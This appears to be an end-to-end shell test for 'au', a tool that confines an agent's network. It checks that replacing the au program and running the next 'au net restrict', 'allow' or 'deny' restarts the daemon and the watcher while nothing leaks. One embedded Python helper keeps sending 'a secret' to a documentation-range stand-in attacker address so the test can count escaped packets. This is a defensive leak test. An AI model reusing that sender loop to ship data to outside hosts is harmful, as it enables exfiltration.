#!/bin/sh
# After au was replaced by another version, the next au net restrict, allow or deny runs that one in the daemon and the watcher; nothing leaves meanwhile.
# machines: trixie
# machines by hand: bookworm true
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
ok as alice au new -y
internet_up
ok as alice au net restrict --allow allowed.test --no-ech
program=$(find /usr/local -name au-complete)

# replaced sees that the units run the program that is installed now, and upgrade installs another.
running() { readlink "/proc/$(systemctl show -P MainPID "$1")/exe"; }
replaced() {
	[ "$(running au-net@agent.service)" = /usr/local/libexec/au/agent/au ] || fail "the daemon runs $(running au-net@agent.service)"
	[ "$(running au-net-watch.service)" = /usr/local/libexec/au-net/au ] || fail "the watcher runs $(running au-net-watch.service)"
	for copy in au/agent/au au-net/au; do cmp "$program" /usr/local/libexec/$copy || fail "$copy is another au"; done
	ok as alice au net status
	! grep -q 'another version\|replaced since' "$e2e/err" || fail "it is still said to be old"
}
upgrade() {
	cp "$program" "$program.new"
	printf x >>"$program.new" # an ELF file with a tail runs as before
	mv "$program.new" "$program"
}
# sending has the agent send all the while, until sent is called: nothing leaves.
sending() {
	cat >/run/internet/send.py <<-'PYTHON'
		import os, socket
		while not os.path.exists("/run/internet/enough"):
		    for family, host in (socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8:2::66"):
		        with socket.socket(family, socket.SOCK_DGRAM) as s:
		            try: s.sendto(b"a secret", (host, 443))
		            except OSError: pass
	PYTHON
	chmod 755 /run/internet /run/internet/send.py
	rm -f /run/internet/enough
	as alice au run -- python3 /run/internet/send.py &
	sender=$!
	seen=$(attacked)
}
sent() {
	: >/run/internet/enough
	wait $sender
	[ "$(attacked)" = "$seen" ] || fail "$(($(attacked) - seen)) packets reached the attacker meanwhile"
}

replaced
promise="what is old is said, with the line that renews it and loses nothing of what was chosen"
upgrade
ok as alice au net status
complains "another version of au than this one holds the network of agent agent: au net restrict --agent agent --no-ech"
ok as alice au info
says "network: another version of au than this one holds the network of agent agent"
says "hint: au net restrict --agent agent --no-ech"
ok as alice au info --json
says '"outdated"'
promise="restrict renews the daemon and the watcher"
sending
ok as alice au net restrict --agent agent --no-ech
sent
replaced
soon agent curl -sS --max-time 20 https://allowed.test/
grep -q '^no-ech = true' /etc/au/net/agent.toml || fail "what was chosen is lost"
ok as alice au net restrict --no-ech
says_not '$ sudo'
for words in 'allow other.test' 'deny other.test'; do
	promise="au net $words does so too, and what it is asked"
	upgrade
	sending
	ok as alice au net $words
	sent
	complains "another version of au than this one holds the network of agent agent, and is brought up to date"
	replaced
	soon agent curl -sS --max-time 20 https://allowed.test/
done
promise="what was cut off after the program was replaced is finished by the next"
upgrade
install -m 755 "$program" /usr/local/libexec/au/agent/au.new
mv -T /usr/local/libexec/au/agent/au.new /usr/local/libexec/au/agent/au
ok as alice au net status
complains "au-net@agent.service runs a program of au that was replaced since"
ok as alice au net restrict --no-ech
replaced
promise="units of a version that had one socket for both families are replaced while the daemon runs"
dns=$(sed -n 's/^dns-port = //p' /etc/au/net/agent.toml)
cd /etc/systemd/system || fail "no units"
sed -i "/^Wants=/d; s/^ListenStream=127.0.0.1:\(.*\)/&\nListenStream=[::1]:\1/; s/^ListenDatagram=127.0.0.1:\(.*\)/&\nListenDatagram=[::1]:\1/" au-net@agent.socket
systemctl stop au-net@agent.service au-net@agent.socket au-net6@agent.socket
rm au-net6@agent.socket
systemctl daemon-reload
ok systemctl start au-net@agent.service
ok agent dig +time=5 +tries=2 @::1 allowed.test
sending
ok as alice au net restrict --no-ech
sent
ok systemctl is-active au-net6@agent.socket
for host in 127.0.0.1 ::1; do
	ok agent dig +time=5 +tries=2 "@$host" allowed.test
	says "203.0.113.7"
	ok agent dig +time=5 +tries=2 +tcp "@$host" allowed.test
	says "203.0.113.7"
done
[ "$(ss -Hlnu "sport = :$dns" | wc -l)" = 2 ] || fail "$(ss -lnu)"
ok as alice au net restrict --no-ech
says_not '$ sudo'
ok as alice au net off
